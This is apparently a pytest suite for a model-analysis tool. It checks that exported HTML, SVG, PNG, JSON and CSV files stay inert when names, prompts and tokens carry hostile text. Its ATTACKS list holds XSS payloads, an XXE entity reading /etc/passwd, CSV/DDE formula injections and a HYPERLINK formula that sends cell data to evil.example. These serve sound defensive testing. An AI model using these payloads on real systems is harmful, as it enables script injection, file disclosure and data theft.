"""Whatever a text says, a file that visitors take home holds it as text: no script, no formula, no reference to elsewhere.

Every text that reaches the files is hostile at once: the model's name, the prompts, the tokens, and the words of the record.
"""

import csv
import io
import itertools
import json
import re
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from typing import TypeVar
from xml.etree import ElementTree

import pytest
from PIL import Image

from headroles.core.heads import Head
from headroles.core.readings.analysis import Analysis, HeadView
from headroles.core.readings.comparison import compare_models, compare_prompts
from headroles.core.registry import EMBEDDED_MODEL
from headroles.core.roles.roles import ROLES
from headroles.core.surveys.atlas import Atlas
from headroles.core.surveys.atlas_entries import AtlasEntry
from headroles.render.files.exports import DOWNLOADS, FORMULA_STARTS, Download
from headroles.render.html import ASSETS
from headroles.server.page.page_data import PageData
from headroles.server.page.page_state import PageState
from headroles.server.page.parts import FILES
from tests.conftest import REPEATING
from tests.fixtures.hostile import HOSTILE_TEXTS, short
from tests.fixtures.known import known

T = TypeVar("T", Analysis, HeadView)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"a")'
ATTACKS = (
    *(text for text in HOSTILE_TEXTS if len(text) < 1000),
    "</title></style></textarea></script><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    "<svg:script>alert(1)</svg:script><foreignObject onload=alert(1)>",
    "' onmouseover='alert(1)' x='",
    '" onfocus="alert(1)" autofocus="',
    "javascript:alert(1)",
    "</div></div><form action=//evil.example><input name=a>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "url(//evil.example) @import '//evil.example'; }",
    "\\u003cscript\\u003e \\x3cscript\\x3e",
    "&lt;script&gt;&#x3c;script&#x3e;",
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a;=1+1",
    'a"\r\n"=1+1',
)
# elements of SVG that run, lead elsewhere or bring other languages in; what may refer to something is looked at one by one
SCRIPTS = {"script", "foreignObject", "iframe", "object", "embed", "a", "animate", "set", "img", "metadata", "handler"}


def poisoned(value: T, attack: str) -> T:
    """The same result, with the attack in every text that is not ours."""
    value = replace(value, model=attack, prompt=attack, tokens=tuple(attack for _ in value.tokens))
    if isinstance(value, Analysis):
        words = dict.fromkeys(("analysis_date", "revision", "dataset", "commit", "note"), attack)
        suggested = tuple(replace(role, suggested_prompt=f"{attack} again") for role in value.roles)
        value = replace(value, source=replace(value.source, **words), roles=suggested)
    return value


def poisoned_entry(entry: AtlasEntry, attack: str) -> AtlasEntry:
    return entry.model_copy(update={"model": attack, "revision": attack, "family": attack})


@pytest.fixture(scope="module")
def scene(explorer) -> PageData:
    """Everything that the page can show of a text, both comparisons included."""
    analysis = explorer.analyze(EMBEDDED_MODEL, REPEATING)
    view = explorer.view_head(EMBEDDED_MODEL, REPEATING, Head(2, 2), ROLES["induction"])
    record = explorer.categories(EMBEDDED_MODEL)
    atlas = explorer.atlas()
    return PageData(PageState(prompt=REPEATING, head=Head(2, 2)), analysis, view, sheet_heads=(view,), record=record, atlas=atlas)


def poison(scene: PageData, attack: str) -> PageData:
    analysis, view = poisoned(known(scene.analysis), attack), poisoned(known(scene.view), attack)
    place = replace(scene.state, model=attack, prompt=attack, other_prompt=attack, other_model=attack)
    return replace(
        scene,
        state=place,
        analysis=analysis,
        view=view,
        sheet_heads=(view,),
        record=known(scene.record).model_copy(update={"model_name": attack, "revision": attack}),
        prompts=compare_prompts(analysis, replace(analysis, prompt=attack + " ")),
        models=compare_models(analysis, replace(analysis, model=attack + " ")),
        atlas=Atlas(tuple(poisoned_entry(entry, attack) for entry in known(scene.atlas).entries)),
    )


def save(scene: PageData, name: str) -> Download:
    return FILES[name][1](scene)


@dataclass
class Outline(HTMLParser):
    """A page's tags with the names of their attributes, the values of those that may lead elsewhere, and its scripts."""

    html: str
    tags: list[tuple[str, tuple[str, ...]]] = field(default_factory=list)
    leads: list[str] = field(default_factory=list)
    scripts: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()
        self._in = ""
        self.feed(self.html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self._in = tag
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        named = {"href", "src", "action", "style", "srcdoc", "formaction", "http-equiv", "content", "xlink:href"}
        self.leads += [
            f"{name}={re.sub(r'--longest:[0-9]+', '', value or '')}"
            for name, value in attrs
            if name in named or name.startswith("on")
        ]

    def handle_data(self, data):
        if self._in in ("script", "style"):
            self.scripts.append(data)

    def handle_endtag(self, tag):
        self._in = ""


@pytest.fixture(scope="module")
def plain(scene) -> Outline:
    """The saved page of harmless texts."""
    return Outline(save(poison(scene, "word"), "page.html").content.decode())


@pytest.mark.parametrize("attack", ATTACKS, ids=short)
def test_no_text_changes_what_the_saved_page_is_made_of(scene, plain, attack):
    """Its elements, its attributes, where they lead and its scripts are those of a page of harmless texts, one for one."""
    hostile = Outline(save(poison(scene, attack), "page.html").content.decode())
    assert hostile.scripts == plain.scripts
    assert hostile.leads == plain.leads
    assert hostile.tags == plain.tags


SVG_FILES = [name for name in DOWNLOADS if name.endswith(".svg")]
DEAR = {"sheet.svg": 12, "model.svg": 12, "atlas.svg": 24}  # to draw, and of the same pieces as the rest: a few of the attacks


@pytest.mark.parametrize(
    ("name", "attack"),
    [
        pytest.param(name, attack, marks=[pytest.mark.thorough] if number % DEAR.get(name, 4) else [])
        for name in SVG_FILES
        for number, attack in enumerate(ATTACKS)
    ],
    ids=short,
)
def test_no_text_runs_in_a_picture_or_leads_out_of_it(scene, attack, name):
    content = save(poison(scene, attack), name).content
    assert not re.search(rb"<!ENTITY|<\?xml-stylesheet", content)
    for element in ElementTree.fromstring(content).iter():
        assert element.tag.rpartition("}")[2] not in SCRIPTS
        for attribute, value in element.items():
            plain = attribute.rpartition("}")[2]
            assert not plain.lower().startswith("on")
            assert plain != "href" or value.startswith(("#", "data:image/png;base64,"))
            assert "evil.example" not in value


@pytest.mark.parametrize(
    ("name", "attack"),
    [
        *itertools.product([name for name in DOWNLOADS if name.endswith(".png") and name != "atlas.png"], ATTACKS[::20]),
        ("atlas.png", ATTACKS[0]),
    ],
    ids=short,
)
def test_a_picture_of_dots_holds_no_text_beside_its_dots(scene, attack, name):
    with Image.open(io.BytesIO(save(poison(scene, attack), name).content)) as picture:
        picture.verify()
        assert attack not in str(picture.info)


@pytest.mark.parametrize("attack", ATTACKS, ids=short)
def test_the_json_holds_every_text_as_it_is_and_nothing_else(scene, attack):
    hostile, plain = (json.loads(save(poison(scene, text), "analysis.json").content) for text in (attack, "word"))
    assert outline(hostile) == outline(plain)
    assert {hostile["model"], hostile["prompt"], *hostile["tokens"], hostile["source_note"], hostile["commit"]} == {attack}


def outline(value: object) -> object:
    """What a result is made of, whatever its texts say."""
    if isinstance(value, dict):
        return {key: outline(item) for key, item in value.items()}
    return [outline(item) for item in value] if isinstance(value, list) else type(value)


@pytest.mark.parametrize("attack", ATTACKS, ids=short)
def test_no_cell_of_the_table_is_a_formula(scene, attack):
    for name, columns in (("scores.csv", 13), ("atlas.csv", 23)):
        text = save(poison(scene, attack), name).content.decode()
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert {len(row) for row in rows} == {columns}
        cells = [cell for row in rows for cell in row if not re.fullmatch(r"-[\d.e-]+", cell)]  # a number below 0 is none
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS[1:])]


@pytest.mark.parametrize("attack", ATTACKS, ids=short)
def test_every_file_is_served_as_what_it_is_under_a_name_that_any_system_takes(scene, attack):
    kinds = {"csv": "text/csv; charset=utf-8", "json": "application/json"}
    for name in ("scores.csv", "analysis.json"):
        file = save(poison(scene, attack), name)
        assert re.fullmatch(r"headroles-[A-Za-z0-9._-]{1,120}", file.name)
        assert file.media_type == kinds[file.name.rpartition(".")[2]]


def test_the_saved_pages_scripts_make_no_elements_from_text():
    """What its script writes into the page it writes as text, so data can become no element after it has loaded either."""
    for path in ASSETS.glob("*.js"):
        source = path.read_text("utf-8")
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|srcdoc", source), (
            path.name
        )
